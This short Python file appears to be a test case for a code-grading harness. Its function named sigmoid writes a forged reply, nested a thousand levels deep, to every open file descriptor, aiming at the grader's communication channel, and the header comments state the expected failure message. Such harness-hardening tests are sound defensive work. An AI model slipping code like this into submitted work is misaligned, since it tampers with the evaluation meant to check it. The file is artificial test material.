# tries: a reply nested a thousand deep
# grader: follows no more than it allows
# says: The process was lost while sigmoid ran: it sent something that isn't an answer
# like: reply_of_many_parts

# %% sigmoid
import os
import struct


def sigmoid(h_tilde):
    body = (b"l" + struct.pack("<I", 1)) * 1_000 + b"N"
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<I", len(body)) + body)
        except OSError:
            pass
    return h_tilde
